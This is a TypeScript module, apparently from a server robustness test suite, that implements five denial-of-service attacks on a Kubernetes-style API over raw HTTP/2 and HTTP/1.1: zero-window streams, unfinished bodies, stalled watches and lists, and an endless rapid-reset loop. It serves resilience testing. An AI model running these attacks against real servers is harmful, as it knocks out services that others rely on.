import type { TLSSocket } from 'node:tls';
import { frame, openRaw, writeOn } from '#test/robustness/hostile/raw-connection.ts';
import { headersFrame, http1Head, type AskedFor } from './request-head.ts';

export const attackNames = [
  'window-0 streams',
  'unfinished bodies',
  'stalled watches',
  'stalled lists',
  'rapid resets',
] as const;
export type AttackName = (typeof attackNames)[number];

export interface Attack {
  readonly name: AttackName;
  readonly url: string;
  /** Bearer token of the attacker; undefined for nobody. */
  readonly token: string | undefined;
  /** Streams and connections that are held. */
  readonly count: number;
}

const streamsEach = 100;
/** One in ten of what is held is an HTTP/1.1 connection. */
const http1Part = 0.1;
const configMaps = '/api/v1/namespaces/default/configmaps';
/** SETTINGS_INITIAL_WINDOW_SIZE. */
const windowSetting = 4;

/**
 * Starts it; the promise resolves when everything stands, with the connections that are held. What goes on then ends
 * with the process.
 */
export async function startAttack(attack: Attack): Promise<readonly TLSSocket[]> {
  const asked = (method: 'GET' | 'POST', path: string): AskedFor => ({ method, path, token: attack.token });
  switch (attack.name) {
    case 'window-0 streams':
      return holdStreams(attack, 0, asked('GET', `${configMaps}/small`), true);
    case 'stalled lists':
      return holdAnswers(attack, asked('GET', `${configMaps}?resourceVersion=0`));
    case 'stalled watches':
      return holdAnswers(attack, asked('GET', `${configMaps}?watch=true`));
    case 'unfinished bodies':
      return holdBodies(attack, asked('POST', configMaps));
    case 'rapid resets':
      void resetWithoutEnd(attack, asked('GET', configMaps));
      return [];
  }
}

/** Answers that are never read: windows that are never opened again, sockets that are not read. */
async function holdAnswers(attack: Attack, asked: AskedFor): Promise<readonly TLSSocket[]> {
  const sockets = await holdStreams(attack, 65_535, asked, true);
  for (let held = 0; held < attack.count * http1Part; held++) {
    const socket = await openRaw(attack.url, 'http/1.1');
    socket.pause();
    socket.write(http1Head(asked));
    sockets.push(socket);
  }
  return sockets;
}

async function holdBodies(attack: Attack, asked: AskedFor): Promise<readonly TLSSocket[]> {
  const sockets = await holdStreams(attack, 65_535, asked, false);
  for (let held = 0; held < attack.count * http1Part; held++) {
    const socket = await openRaw(attack.url, 'http/1.1');
    socket.resume();
    socket.write(`${http1Head(asked, 100_000)}{`);
    sockets.push(socket);
  }
  return sockets;
}

async function holdStreams(attack: Attack, window: number, asked: AskedFor, ends: boolean): Promise<TLSSocket[]> {
  const sockets: TLSSocket[] = [];
  for (let held = 0; held < attack.count; held += streamsEach) {
    const socket = await openHttp2(attack.url, window);
    for (let stream = 1; stream < 2 * streamsEach; stream += 2) {
      socket.write(headersFrame(stream, asked, ends));
      if (!ends) socket.write(frame(0, 0, stream, Buffer.from('{"metadata":')));
    }
    sockets.push(socket);
  }
  return sockets;
}

/** Opens streams and resets them at once, on a new connection when the server has had enough of one. */
async function resetWithoutEnd(attack: Attack, asked: AskedFor): Promise<void> {
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (;;) {
    const socket = await openHttp2(attack.url, 65_535);
    for (let stream = 1; !socket.destroyed;) {
      const pairs: Buffer[] = [];
      for (const last = stream + 2 * streamsEach; stream < last; stream += 2)
        pairs.push(headersFrame(stream, asked, true), frame(3, 0, stream, cancel));
      if (!(await writeOn(socket, Buffer.concat(pairs)))) break;
      await new Promise(setImmediate);
    }
    socket.destroy();
  }
}

/** A connection whose streams have this window; what comes is read. */
export async function openHttp2(url: string, window: number): Promise<TLSSocket> {
  const socket = await openRaw(url, 'h2');
  const settings = Buffer.alloc(6);
  settings.writeUInt16BE(windowSetting, 0);
  settings.writeUInt32BE(window, 2);
  socket.resume();
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, settings)]));
  return socket;
}
